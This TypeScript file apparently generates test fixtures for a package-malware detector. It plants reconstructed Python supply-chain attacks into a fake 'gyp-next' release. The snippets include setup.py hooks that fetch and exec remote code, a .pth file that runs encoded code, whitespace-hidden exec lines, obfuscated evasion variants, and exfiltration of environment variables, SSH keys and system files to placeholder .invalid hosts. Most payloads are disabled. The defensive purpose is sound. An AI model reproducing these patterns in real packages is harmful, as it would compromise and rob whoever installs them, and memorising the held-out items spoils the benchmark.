import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { type PackageFiles, writeTarball } from '../package-files.ts'
import { blob } from '../random.ts'
import type { Made, Reconstruction } from '../reconstruction.ts'
import { writeZip } from '../zip.ts'
import { pythonPair, wheelFiles, withPython } from './package.ts'

interface PythonAttack {
  readonly name: string
  readonly title: string
  readonly source: string
  readonly use: 'development' | 'held-out'
  readonly as: 'wheel' | 'sdist'
  readonly evasion?: string
  tamper(files: PackageFiles): PackageFiles
}

const ultralyticsHelper = `def safe_run(path):
    """Safely runs the provided file, making sure it is executable."""
    raise RuntimeError("inert")
    os.chmod(path, 0o770)
    command = [path, "-u", "wallet.invalid", "-p", "pool.invalid:8080"]
    process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=os.setsid, close_fds=True)
    os.remove(path)
`

const ultralyticsModel = `def _prepare_environment():
    import platform, tempfile, subprocess, urllib.request
    raise RuntimeError("inert")
    environment = (platform.system(), platform.machine())
    if environment == ("Linux", "x86_64"):
        target = os.path.join(tempfile.gettempdir(), "ultralytics_runner")
        urllib.request.urlretrieve("https://github-releases.invalid/oscillator/ultralytics/x86_64", target)
        safe_run(target)
    elif environment == ("Darwin", "arm64"):
        target = os.path.join(tempfile.gettempdir(), "ultralytics_runner")
        urllib.request.urlretrieve("https://github-releases.invalid/oscillator/ultralytics/arm64", target)
        safe_run(target)


_prepare_environment()
`

const inertScript = Buffer.from(`raise SystemExit(0)\n${blob('litellm/script', 24000)}`).toString('base64')

const pth = `import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('${inertScript}'))"])\n`

const proxyServer = `b64_payload = "${inertScript.slice(0, 14000)}"


def _run_background():
    import base64, subprocess, sys, tempfile, os
    with tempfile.TemporaryDirectory() as folder:
        script = os.path.join(folder, "p.py")
        with open(script, "wb") as handle:
            handle.write(base64.b64decode(b64_payload))
        with open(os.path.join(folder, "out"), "w") as out:
            subprocess.run([sys.executable, script], stdout=out, stderr=subprocess.DEVNULL)
        subprocess.run(["openssl", "enc", "-aes-256-cbc", "-in", out.name, "-out", out.name + ".enc", "-pass", "file:session.key"])
        subprocess.run(["curl", "-s", "-o", "/dev/null", "-X", "POST", "https://models.litellm.invalid/", "-H", "X-Filename: tpcp.tar.gz", "--data-binary", "@" + out.name])


if os.environ.get("INERT") is None:
    raise RuntimeError("inert")
_run_background()
`

const environmentThief = `class Ctx:
    def __init__(self):
        self.sendRequest()

    def sendRequest(self):
        raise RuntimeError("inert")
        text = ""
        for key, value in os.environ.items():
            text += key + "=" + value + " "
        import base64, requests
        message = base64.b64encode(text.encode("ascii")).decode("ascii")
        requests.get("https://anti-theft-web.invalid/hacked/" + message)
`

const setupHook = `import os
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        raise RuntimeError("inert")
        code = urllib.request.urlopen("https://files.pythanhosted.invalid/inject.py").read().decode("utf8")
        exec(compile(code, "<string>", "exec"))


setup(name="gyp-next", version="0.20.3", packages=["gyp"], cmdclass={"install": PostInstall})
`

const hiddenLine = `${' '.repeat(320)};__import__("builtins").exec(__import__("builtins").compile(__import__("base64").b64decode("${blob('w4sp', 900)}"),"<string>","exec"))`

const torch = `def _collect():
    raise RuntimeError("inert")
    import glob, socket, getpass
    names = ["/etc/hosts", "/etc/passwd", os.path.expanduser("~/.gitconfig")] + glob.glob(os.path.expanduser("~/.ssh/*"))
    facts = [socket.gethostname(), getpass.getuser(), os.getcwd(), repr(dict(os.environ))]
    for name in names[:1000]:
        with open(name, "rb") as handle:
            facts.append(handle.read(99999).hex())
    for at in range(0, len("".join(facts)), 60):
        try:
            socket.gethostbyname("".join(facts)[at:at + 60] + ".h4ck.invalid")
        except OSError:
            pass


_collect()
`

const lightning = `import threading as _threading


def _run_runtime():
    import os, subprocess, sys
    raise RuntimeError("inert")
    here = os.path.join(os.path.dirname(__file__), "_runtime")
    subprocess.Popen([sys.executable, os.path.join(here, "start.py")], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


_threading.Thread(target=_run_runtime, daemon=True).start()
`

const lightningStart = `import io
import os
import platform
import subprocess
import urllib.request
import zipfile

raise SystemExit(0)
HERE = os.path.dirname(os.path.abspath(__file__))
URL = "https://bun-releases.invalid/bun-v1.3.13/bun-" + platform.system().lower() + "-x64.zip"
archive = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen(URL).read()))
archive.extractall(HERE)
os.chmod(os.path.join(HERE, "bun"), 0o755)
subprocess.run([os.path.join(HERE, "bun"), "run", os.path.join(HERE, "router_runtime.js")])
`

const attacks: readonly PythonAttack[] = [
  {
    name: 'ultralytics-2024',
    title: 'ultralytics: the build put code into two modules that fetches a program and runs it',
    source: 'Reports on ultralytics 8.3.41 and 8.3.42 of 4 December 2024',
    use: 'development',
    as: 'wheel',
    tamper: (files) =>
      withPython(
        withPython(files, 'gyp/common.py', `import subprocess\n\n\n${ultralyticsHelper}`, 'inside'),
        'gyp/input.py',
        `from gyp.common import safe_run\n\n\n${ultralyticsModel}`,
        'end',
      ),
  },
  {
    name: 'ultralytics-2024',
    evasion: 'aliased',
    title: 'the same with functions under other names',
    source: 'A variant of the former',
    use: 'development',
    as: 'sdist',
    tamper: (files) =>
      withPython(
        files,
        'gyp/input.py',
        `_s = __import__("sub" + "process")\n_u = getattr(__import__("urllib.request"), "request")\n_p = getattr(_s, "Po" + "pen")\n\n\ndef _warm(target):\n    raise RuntimeError("inert")\n    getattr(_u, "urlretr" + "ieve")("https://" + "releases.invalid" + "/runner", target)\n    getattr(__import__("o" + "s"), "chmod")(target, 0o770)\n    _p([target], preexec_fn=getattr(__import__("os"), "setsid"))\n\n\n_warm("/tmp/runner")\n`,
        'end',
      ),
  },
  {
    name: 'litellm-2026',
    title: 'LiteLLM: a .pth file that every start of Python runs',
    source: 'Reports on litellm 1.82.8 of 24 March 2026 (litellm_init.pth, 34 kB)',
    use: 'development',
    as: 'wheel',
    tamper: (files) => new Map(files).set('gyp_init.pth', Buffer.from(pth)),
  },
  {
    name: 'litellm-2026',
    evasion: 'split-blob',
    title: 'the same, its blob in a module beside it and in pieces',
    source: 'A variant of the former',
    use: 'held-out',
    as: 'wheel',
    tamper: (files) => {
      const pieces = inertScript.match(/.{1,60}/g) ?? []
      return new Map(files).set('gyp_init.pth', Buffer.from('import gyp._tables; gyp._tables.load()\n')).set(
        'gyp/_tables.py',
        Buffer.from(
          `_rows = [\n${pieces
            .slice(0, 300)
            .map((piece) => `    "${piece}",`)
            .join('\n')}\n]\n\n\ndef load():\n    import base64\n    exec(base64.b64decode("".join(_rows)))\n`,
        ),
      )
    },
  },
  {
    name: 'litellm-2026-module',
    title: 'LiteLLM, the release before: a blob in a module, written to a file and run at import',
    source: 'Reports on litellm 1.82.7 of 24 March 2026 (proxy_server.py)',
    use: 'development',
    as: 'wheel',
    tamper: (files) => withPython(files, 'gyp/common.py', proxyServer, 'inside'),
  },
  {
    name: 'ctx-2022',
    title: 'ctx: sends the environment to a web address',
    source: 'Reports on ctx 0.2.2 and phpass, May 2022',
    use: 'development',
    as: 'sdist',
    tamper: (files) => withPython(files, 'gyp/common.py', environmentThief, 'end'),
  },
  {
    name: 'setup-hook',
    title: 'a setup.py whose install command runs fetched code',
    source: 'The commonest shape of malicious source distributions on PyPI, 2022 to 2025',
    use: 'development',
    as: 'sdist',
    tamper: (files) => new Map(files).set('setup.py', Buffer.from(setupHook)),
  },
  {
    name: 'hidden-line-2022',
    title: 'W4SP: code far to the right of an ordinary line',
    source: 'Reports on the W4SP stealer packages, November 2022',
    use: 'development',
    as: 'sdist',
    tamper: (files) => {
      const text = files.get('gyp/common.py')?.toString() ?? ''
      return new Map(files).set('gyp/common.py', Buffer.from(text.replace(/^import .*$/m, (line) => line + hiddenLine)))
    },
  },
  {
    name: 'torchtriton-2022',
    title: 'torchtriton: gathers keys and names and sends them by names that it looks up',
    source: 'PyTorch on the compromised nightly dependency of December 2022',
    use: 'development',
    as: 'wheel',
    tamper: (files) => withPython(files, 'gyp/input.py', torch, 'end'),
  },
  {
    name: 'lightning-2026',
    title: 'lightning: at import a thread fetches another runtime and runs a large script in it',
    source: 'Reports on lightning 2.6.2 and 2.6.3 of 30 April 2026',
    use: 'development',
    as: 'wheel',
    tamper: (files) =>
      withPython(files, 'gyp/__init__.py', lightning, 'end')
        .set('gyp/_runtime/start.py', Buffer.from(lightningStart))
        .set('gyp/_runtime/router_runtime.js', Buffer.from(`var _0x1f=["${blob('lightning', 400000)}"];`)),
  },
]

async function make({ tamper, as }: PythonAttack, folder: string, benign = false): Promise<Made> {
  const pair = await pythonPair()
  mkdirSync(folder, { recursive: true })
  const write = (files: PackageFiles, version: string) => {
    const path = join(folder, as === 'wheel' ? `gyp_next-${version}-py3-none-any.whl` : `gyp_next-${version}.tar.gz`)
    writeFileSync(path, as === 'wheel' ? writeZip(wheelFiles(files, version)) : writeTarball(files, `gyp_next-${version}`))
    return path
  }
  const step = { old: write(pair.old, '0.20.0'), new: write(benign ? pair.new : tamper(pair.new), '0.20.2') }
  return { steps: [step], base: pair.kind }
}

export const pythonReconstructions: readonly Reconstruction[] = attacks.map((attack) => ({
  name: attack.evasion === undefined ? attack.name : `${attack.name}+${attack.evasion}`,
  attack: attack.name,
  ...(attack.evasion !== undefined && { evasion: attack.evasion }),
  title: attack.title,
  source: attack.source,
  use: attack.use,
  make: (folder) => make(attack, folder),
  benign: (folder) => make(attack, folder, true),
}))
